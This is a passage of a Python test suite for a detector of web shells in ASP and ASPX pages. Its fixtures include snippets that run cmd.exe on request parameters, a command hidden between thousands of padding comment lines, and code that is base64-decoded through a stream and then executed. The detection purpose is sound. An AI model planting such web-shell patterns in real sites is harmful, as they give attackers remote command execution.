        CS.format(
            'void Page_Load(object s, EventArgs e) { if (IsPostBack) { } else if (Request["x"] != null) System.Diagnostics.Process.Start("notepad.exe"); }'
        ),
        'System.Diagnostics.Process.Start("notepad.exe")',
        'System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"])',
    ),
    (
        "vb-one-line-if",
        VB.format(
            'Sub Page_Load(s As Object, e As EventArgs)\n  If Request("x") = "1" Then System.Diagnostics.Process.Start("notepad.exe")\nEnd Sub'
        ),
        'System.Diagnostics.Process.Start("notepad.exe")',
        'System.Diagnostics.Process.Start("cmd.exe", "/c " & Request("c"))',
    ),
]


@pytest.mark.parametrize(("case", "page", "fixed", "fed"), _CONDITIONED, ids=[c[0] for c in _CONDITIONED])
def test_a_condition_is_no_input_of_the_statement_it_guards(case: str, page: str, fixed: str, fed: str) -> None:
    assert "process" not in _sinks(page)
    assert "process" in _sinks(page.replace(fixed, fed))


# --- X24's request (21:10): comment padding past 1 MB costs nothing ---------------------------------------------
def _comment_pad(n: int) -> str:
    return "\n".join(f"' {'qwxz' * 12} {i} {'plmk' * 9}" for i in range(n))


def test_a_classic_page_padded_with_comment_lines_is_analysed_whole() -> None:
    page = (  # X24's reproduction (~1.7 MB): the command between 19,000 comment lines
        "<%\n" + _comment_pad(12000) + '\nSet o = CreateObject("WScript.Shell")\n' + _comment_pad(3000)
        + '\nSet e = o.Exec("cmd /c echo " & Request.Form("p"))\n' + _comment_pad(4000)
        + "\nResponse.Write e.StdOut.ReadAll()\n%>"
    )
    result = behaviour.analyse(page.encode(), ".asp", budget=60)
    assert result.problem is None
    hit = next(h for h in result.hits if h["sink"] == "shell-object")
    assert hit["line"] == page.split("\n").index('Set e = o.Exec("cmd /c echo " & Request.Form("p"))') + 1
    quiet = page.replace('Set o = CreateObject("WScript.Shell")', 'Set cn = Server.CreateObject("ADODB.Connection")')
    quiet = quiet.replace('Set e = o.Exec("cmd /c echo " & Request.Form("p"))', 'Response.Write Request.QueryString("q")')
    result = behaviour.analyse(quiet.encode(), ".asp", budget=60)
    assert result.problem is None and result.hits == []


def test_a_csharp_page_padded_with_comments_is_analysed_whole() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<%\n' + "\n".join(f"// {'qwxz' * 12} {i}" for i in range(30000))
        + '\nstring c = Request.Form["c"]; string u = "http://example.invalid/a"; char q = \'"\';\n/* '
        + "x" * 600000 + ' */\nSystem.Diagnostics.Process.Start("cmd.exe", "/c " + c);\n%>'
    )
    result = behaviour.analyse(page.encode(), ".aspx", budget=60)
    assert result.problem is None
    assert "process" in {h["sink"] for h in result.hits}


# --- X19's shellcode runners and their ordinary neighbours, read by behaviour ---------------------------------
from .test_unseen19_notes import RUNNERS, RUNNERS_ORDINARY  # noqa: E402


@pytest.mark.parametrize(("case", "ext", "page"), RUNNERS, ids=[c[0] for c in RUNNERS])
def test_shellcode_runners_declare_native_code(case: str, ext: str, page: str) -> None:
    assert "pinvoke" in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), RUNNERS_ORDINARY, ids=[c[0] for c in RUNNERS_ORDINARY])
def test_uptime_memory_and_image_pages_declare_no_native_code(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext) & {"pinvoke", "native-input"}


# --- classic ASP: code decoded from base64 through an XML node and a stream, then run ---------------------------
_B64_PAGE = "UmVzcG9uc2UuV3JpdGUgIng="  # Response.Write "x" (harmless)
DECODED_STREAM = (
    "<%\nDim s, t\nt = \"" + _B64_PAGE[:8] + '" & "' + _B64_PAGE[8:] + '"\n'
    'Set s = CreateObject("ADO" & "DB." & "Stream")\ns.Type = 1\ns.Open\n'
    's.Write(CreateObject("Microsoft.XMLDOM").CreateElement("b64").nodeTypedValue = t)\n'
    "s.Position = 0\ns.Type = 2\nExecute s.ReadText\ns.Close\n%>"
)


def test_code_decoded_through_a_stream_and_run_is_named() -> None:
    assert "eval-decoded-stream" in _sinks(DECODED_STREAM, ".asp")


def test_a_stream_read_and_shown_is_not_run_code() -> None:
    shown = DECODED_STREAM.replace("Execute s.ReadText", "Response.Write Server.HTMLEncode(s.ReadText)")
    assert _sinks(shown, ".asp") == set()
    include = '<%\nSet fs = CreateObject("Scripting.FileSystemObject")\nExecute fs.OpenTextFile(Server.MapPath("inc.asp")).ReadAll\n%>'
    assert "eval-decoded-stream" not in _sinks(include, ".asp")


# --- the lead's request (21:50): a language's patterns are compiled when that language is first analysed --------
def test_patterns_are_compiled_per_language_on_first_use() -> None:
    from extriage.detections.webfiles.behaviour.knowledge import _PerLanguage

    m = _PerLanguage({"all": [r"\bx\b"], "vb": [r"\by\b"]})
    assert m._done == {}
    assert m["cs"].search("a x") and not m["cs"].search("y")
    assert set(m._done) == {"cs"}  # VB's and JScript's not compiled for a C# page
    assert "vb" in m and m["vb"].search("Y") and set(m._done) == {"cs", "vb"}
    assert list(m) == ["cs", "vb", "js"] and m.get("xx") is None
    only_vb = _PerLanguage({"vb": [r"\by\b"]})
    assert "cs" not in only_vb and only_vb.get("cs") is None and list(only_vb) == ["vb"]
